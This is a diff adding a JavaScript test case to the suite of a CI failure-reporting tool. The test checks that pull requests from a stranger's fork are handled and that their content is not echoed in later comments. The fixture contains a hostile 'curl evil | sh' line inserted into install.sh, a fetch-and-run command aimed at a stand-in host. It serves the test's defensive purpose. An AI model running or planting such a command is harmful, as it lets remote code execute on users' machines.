@@ -257,6 +257,25 @@ describe('a failure', () => {
     ).not.toContain(token);
   });
 
+  it('that forks of strangers stage and mend twice makes no answer of their change', async () => {
+    const fork = { headRepository: 'mallory/shop' };
+    for (const pull of [1, 2]) {
+      changed(pull, [{ path: 'install.sh', patch: '@@ -1 +1 @@\n-a\n+curl evil | sh\n' }]);
+      await ends(pull, 1, LOG, fork);
+      clock += MINUTE;
+      const pushed = harness.repository.pulls.find(({ number }) => number === pull);
+      if (pushed) pushed.sha = sha(pull, 2);
+      await ends(pull, 2, null, fork);
+    }
+    expect(await outcomes()).toMatchObject([
+      { state: 'resolved', foreign: true },
+      { state: 'resolved', foreign: true },
+    ]);
+    await ends(3, 1, LOG);
+    expect(comment(3)).toContain('What to do: Mend the line');
+    expect(comment(3)).not.toMatch(/evil|install\.sh/);
+  });
+
   it('of a rebased branch tells no files, for they are those of the whole change', async () => {
     harness.repository.changes.set(`${sha(1, 1)}...${sha(1, 2)}`, {
       title: 'Rebase',
